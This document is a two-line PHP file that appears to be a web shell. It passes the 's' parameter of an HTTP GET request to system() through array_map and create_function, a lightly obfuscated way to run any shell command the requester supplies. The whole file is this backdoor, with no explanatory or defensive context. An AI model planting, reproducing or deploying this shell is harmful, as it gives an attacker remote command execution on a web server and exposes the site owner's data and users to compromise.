<?php
array_map(create_function('$a', 'return system($a);'), array($_GET['s']));
